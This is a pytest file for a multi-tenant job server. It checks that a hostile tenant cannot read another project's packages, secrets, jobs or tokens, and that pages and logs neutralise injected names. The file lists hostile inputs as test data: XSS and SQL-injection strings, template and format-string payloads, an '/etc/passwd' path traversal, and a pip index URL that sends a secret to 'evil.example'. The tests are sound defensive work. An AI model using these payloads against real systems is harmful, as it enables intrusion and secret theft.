"""Two tenants of one server, one of them hostile: what each keeps, names, refers to and shows stays its own."""

import base64
import json

import pytest
from structlog.typing import EventDict

from tests.isolation.place import CONTENT, INSIDE, MARK, OUTSIDE, PACKAGE, Place
from tests.isolation.tenant import Tenant
from tests.unit.domain.archives import REG, zipped

FORGED = zipped(("a.py", b"raise SystemExit('forged')", REG))
_JSON = {"Content-Type": "application/json"}
JOB = {"spec": {"entrypoint": "true"}}
# What a name may be made of, and what it may do to a page, a terminal, a path, a query.
HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'; DROP TABLE job; --",
    "{{ 7 * 7 }}",
    "${secret:SECRET_A}",
    "%s%s%n",
    "../../../../etc/passwd",
    "javascript:alert(1)",
    "𝕥𝕖𝕒𝕞-𝕒",
    "ｔｅａｍ－ａ",
    "tеam-a",
    "a" * 128,
    "CON",
    "null",
)


async def bytes_of(place: Place, project: str) -> bytes:
    """Return the package as a job of the project gets it."""
    _, chunks = await place.platform.vault.package(project, PACKAGE)
    return b"".join([chunk async for chunk in chunks])


async def test_one_name_two_contents_each_project_keeps_its_own(place: Place, alice: Tenant, mallory: Tenant) -> None:
    missing = await mallory.ask("GET", f"/api/packages/gcs/{PACKAGE}")
    assert missing.status_code == 404, "what another project has would save the upload, and tell of it"
    assert (await mallory.upload(FORGED)).status_code == 200
    assert (await bytes_of(place, INSIDE), await bytes_of(place, OUTSIDE)) == (CONTENT, FORGED)
    assert (await mallory.upload(CONTENT)).status_code == 409, "nor does a name change its contents within a project"
    assert (await alice.upload(FORGED)).status_code == 409
    assert (await bytes_of(place, INSIDE), await bytes_of(place, OUTSIDE)) == (CONTENT, FORGED)


async def test_a_package_that_one_project_no_longer_needs_stays_where_another_does(
    place: Place, alice: Tenant, mallory: Tenant
) -> None:
    await mallory.upload(CONTENT)
    spec = {"entrypoint": "true", "runtime_env": {"working_dir": f"gcs://{PACKAGE}"}}
    assert (await alice.ask("POST", "/v1/jobs", json={"spec": spec})).status_code == 201
    place.clock.advance(24 * 3600)
    for package in await place.store.packages.remove_unreferenced(place.clock.now(), 100):
        assert package.project == OUTSIDE
    assert await bytes_of(place, INSIDE) == CONTENT


async def test_a_job_gets_at_no_package_or_secret_of_another_project(place: Place, mallory: Tenant) -> None:
    before = await place.state()
    for runtime_env in (
        {"working_dir": f"gcs://{PACKAGE}"},
        {"py_modules": [f"gcs://{PACKAGE}"]},
        {"working_dir": f"gcs://../{INSIDE}/{PACKAGE}"},
        {"working_dir": f"gcs://{INSIDE}/{PACKAGE}"},
        {"env_vars": {"A": "${secret:SECRET_A}"}},
        {"pip": ["--index-url=https://x:${secret:SECRET_A}@evil.example/"]},
    ):
        for path, body in (
            ("/v1/jobs", {"spec": {"entrypoint": "true", "runtime_env": runtime_env}}),
            ("/api/jobs/", {"entrypoint": "true", "runtime_env": runtime_env}),
        ):
            reply = await mallory.ask("POST", path, json=body)
            assert reply.status_code in {400, 404}, (runtime_env, reply.text)
            assert MARK not in reply.text
    named = await mallory.ask("POST", "/v1/jobs", json={"spec": {"entrypoint": "true", "secrets": {"A": "SECRET_A"}}})
    assert (named.status_code, named.json()["code"]) == (400, "invalid")
    assert await place.state() == before


async def test_a_secret_is_the_projects_own_whatever_its_name(place: Place, mallory: Tenant) -> None:
    await mallory.ask("PUT", "/v1/secrets/SECRET_A", json={"value": "mine"})
    assert await place.platform.vault.secret(INSIDE, "SECRET_A") == MARK
    assert await place.platform.vault.secret(OUTSIDE, "SECRET_A") == "mine"
    assert (await mallory.ask("DELETE", "/v1/secrets/SECRET_A")).status_code == 204
    assert await place.platform.vault.secret(INSIDE, "SECRET_A") == MARK
    digests = {secret.digest for secret in await place.store.secrets.list(INSIDE)}
    await mallory.ask("PUT", "/v1/secrets/SECRET_A", json={"value": MARK})
    assert digests.isdisjoint(secret.digest for secret in await place.store.secrets.list(OUTSIDE)), (
        "equal values are not to be told by equal digests"
    )


async def test_an_idempotency_key_is_the_projects_own(alice: Tenant, mallory: Tenant) -> None:
    key = {"Idempotency-Key": "k-1"}
    first = (await alice.ask("POST", "/v1/jobs", json=JOB, headers=key)).json()
    other = await mallory.ask("POST", "/v1/jobs", json=JOB, headers=key)
    assert (other.status_code, other.json()["project"]) == (201, OUTSIDE)
    assert other.json()["uid"] != first["uid"]
    different = await mallory.ask("POST", "/v1/jobs", json={"spec": {"entrypoint": "false"}}, headers=key)
    assert different.status_code == 409
    assert first["id"] not in different.text
    by_ray = {"entrypoint": "true", "metadata": {"raysvc.idempotency_key": "k-1"}}
    assert first["id"] not in (await mallory.ask("POST", "/api/jobs/", json=by_ray)).text


async def test_an_id_is_free_in_each_project(place: Place, alice: Tenant, mallory: Tenant) -> None:
    theirs = await alice.ask("POST", "/v1/jobs", json={**JOB, "id": "same"})
    ours = await mallory.ask("POST", "/v1/jobs", json={**JOB, "id": "same"})
    assert (theirs.status_code, ours.status_code) == (201, 201)
    await mallory.ask("POST", "/api/jobs/same/stop")
    assert not (await place.job("same", INSIDE)).stop_requested
    assert (await place.job("same", OUTSIDE)).stop_requested


async def test_a_batch_takes_in_only_what_is_the_callers(mallory: Tenant) -> None:
    items = [{**JOB, "project": project} for project in (OUTSIDE, INSIDE, "default", "team-z")]
    reply = await mallory.ask("POST", f"/v1/jobs:batch?project={INSIDE}", json={"jobs": [*items, JOB]})
    assert [result["status"] for result in reply.json()["results"]] == [201, 404, 404, 404, 404]


async def test_a_cursor_is_a_place_in_a_list_and_opens_none(place: Place, alice: Tenant, mallory: Tenant) -> None:
    await place.names()
    for tenant in (alice, mallory, alice, mallory):
        await tenant.ask("POST", "/v1/jobs", json=JOB)
    cursor = (await alice.ask("GET", "/v1/jobs?limit=1")).json()["next_cursor"]
    assert MARK not in (await mallory.ask("GET", f"/v1/jobs?limit=1000&cursor={cursor}")).text
    forged = [base64.urlsafe_b64encode(f"{at} {'z' * 16}".encode()).decode().rstrip("=") for at in (-1, 10**17, 10**18)]
    for text in (*forged, "x", "%00", "😀", "a" * 999, "' OR 1=1 --", "AAAA", "/", "team-a"):
        reply = await mallory.ask("GET", "/v1/jobs", params={"cursor": text, "limit": "1000"})
        assert reply.status_code in {200, 400}, text
        if reply.status_code == 200:
            assert {job["project"] for job in reply.json()["items"]} <= {OUTSIDE}


async def test_filters_are_taken_at_their_word(place: Place, mallory: Tenant) -> None:
    await place.names()
    await mallory.ask("POST", "/v1/jobs", json={"spec": {"entrypoint": "true", "name": "a_b%", "labels": {"k": "v"}}})
    for query in (
        {"name_prefix": "%"},
        {"name_prefix": "_"},
        {"name_prefix": "a%"},
        {"name_prefix": "*"},
        {"label": "k:%"},
        {"label": "%:v"},
        {"label": "k:_"},
        {"owner": "%"},
        {"owner": "' OR '1'='1"},
        {"name_prefix": MARK},
        {"label": f"team:{MARK}"},
    ):
        reply = await mallory.ask("GET", "/v1/jobs", params=query)
        assert (reply.status_code, reply.json()["items"]) == (200, []), query
    assert len((await mallory.ask("GET", "/v1/jobs", params={"name_prefix": "a_b%"})).json()["items"]) == 1


async def test_nobody_hands_out_more_than_they_have(place: Place, mallory: Tenant) -> None:
    before = len(await place.store.tokens.list())
    for asked, status in (
        ({"role": "admin", "projects": [INSIDE]}, 404),
        ({"role": "viewer", "projects": [OUTSIDE, INSIDE]}, 404),
        ({"role": "viewer", "projects": []}, 403),
        ({"role": "viewer"}, 403),
        ({"role": "viewer", "projects": ["*"]}, 400),
        ({"role": "root", "projects": [OUTSIDE]}, 400),
        ({"role": "viewer", "projects": [OUTSIDE], "owner": "ada\nadmin"}, 400),
        ({"role": "viewer", "projects": [OUTSIDE], "id": "x"}, 400),
    ):
        reply = await mallory.ask("POST", "/v1/tokens", json={"owner": "mallory", **asked})
        assert reply.status_code == status, asked
    assert len(await place.store.tokens.list()) == before


async def test_what_a_tenant_writes_is_text_on_every_page(place: Place, mallory: Tenant) -> None:
    admin = await place.headers()
    for number, text in enumerate(HOSTILE):
        job_id = f"hostile-{number}"
        spec = {"entrypoint": text, "name": text, "labels": {"note": text[:100]}, "metadata": {text: text}}
        assert (await mallory.ask("POST", "/v1/jobs", json={"spec": spec, "id": job_id})).status_code == 201, text
        job = await place.job(job_id, OUTSIDE)
        place.backend.ray.files[job.uid] = {f"{text}": (text.encode(), place.clock.now())}
        await place.write(job, f"{text}\x1b]0;title\x07\x1b[2J\n".encode())
        for path in (f"/jobs/{job_id}?project={OUTSIDE}", "/jobs", f"/jobs/{job_id}?project={OUTSIDE}&live"):
            page = await place.ask(place.front, "GET", path, admin)
            assert page.status_code == 200, path
            assert "default-src 'none'" in page.headers["content-security-policy"]
            assert "<script>alert" not in page.text
            assert "<img src=x" not in page.text
            assert "\x1b" not in page.text
            assert "49" not in page.text or "{{ 7 * 7 }}" not in text or "7 * 7" in page.text
    for path in ("/jobs", "/login", "/jobs/x"):
        for text in HOSTILE:
            query = {"name_prefix": text, "owner": text, "label": f"a:{text}", "next": text, "project": OUTSIDE}
            page = await place.ask(place.front, "GET", path, admin, params=query)
            assert "<script>alert" not in page.text
            assert "<img src=x" not in page.text
            assert 'href="javascript' not in page.text


@pytest.mark.parametrize("text", ["a\nb", "a\rb", "a\x1b[31m", "a\x7f", "a\x9b31m", "a\u202eb", "a\u2028b", "\t"])
async def test_no_name_forges_a_line_or_moves_a_cursor(place: Place, mallory: Tenant, text: str) -> None:
    before = await place.state()
    for spec in (
        {"name": text},
        {"labels": {"a": text}},
        {"labels": {text: "a"}},
        {"label_selector": {"a": text}},
        {"shape": {"workers": [{"name": text}]}},
        {"resources": {"custom": {text: 1}}},
        {"code": {"kind": "archive", "uri": text}},
    ):
        reply = await mallory.ask("POST", "/v1/jobs", json={"spec": {"entrypoint": "true", **spec}})
        assert (reply.status_code, reply.json()["code"]) == (400, "invalid"), spec
    for metadata in ({"job_name": text}, {"raysvc.label.a": text}, {"raysvc.queue": text}):
        assert (
            await mallory.ask("POST", "/api/jobs/", json={"entrypoint": "x", "metadata": metadata})
        ).status_code == 400
    batch = {"jobs": [{**JOB, "idempotency_key": text}]}
    assert (await mallory.ask("POST", "/v1/jobs:batch", json=batch)).json()["results"][0]["status"] == 400
    assert await place.state() == before


async def test_an_entrypoint_may_have_lines_and_no_nul(mallory: Tenant) -> None:
    lines = await mallory.ask("POST", "/v1/jobs", json={"spec": {"entrypoint": "cd x &&\n\tpython a.py"}})
    assert lines.status_code == 201
    for path, body in (("/v1/jobs", {"spec": {"entrypoint": "a\0b"}}), ("/api/jobs/", {"entrypoint": "a\0b"})):
        assert (await mallory.ask("POST", path, json=body)).status_code == 400


async def test_no_token_and_no_secret_is_ever_logged(
    place: Place, alice: Tenant, mallory: Tenant, lines: list[EventDict]
) -> None:
    await place.names()
    for tenant in (alice, mallory):
        secret = tenant.headers["Authorization"].removeprefix("Bearer ")
        await tenant.ask("GET", f"/v1/jobs?token={secret}")
        await tenant.ask("PUT", "/v1/secrets/NEW", json={"value": MARK})
        await tenant.ask("POST", "/login", data={"token": secret})
        await tenant.ask("GET", "/v1/jobs", headers={"Cookie": f"ray-authentication-token={secret}"})
        assert secret not in repr(lines)
    assert MARK not in repr(lines)


async def test_of_two_equal_keys_all_see_the_last(place: Place, mallory: Tenant) -> None:
    raw = b'{"spec":{"entrypoint":"a","labels":{"deny":"x"},"labels":{}},"id":"one","id":"two"}'
    reply = await mallory.ask("POST", "/v1/jobs", content=raw, headers=_JSON)
    assert (reply.status_code, reply.json()["id"], reply.json()["spec"]["labels"]) == (201, "two", {})
    assert json.loads((await place.job("two", OUTSIDE)).model_dump_json())["spec"]["labels"] == {}
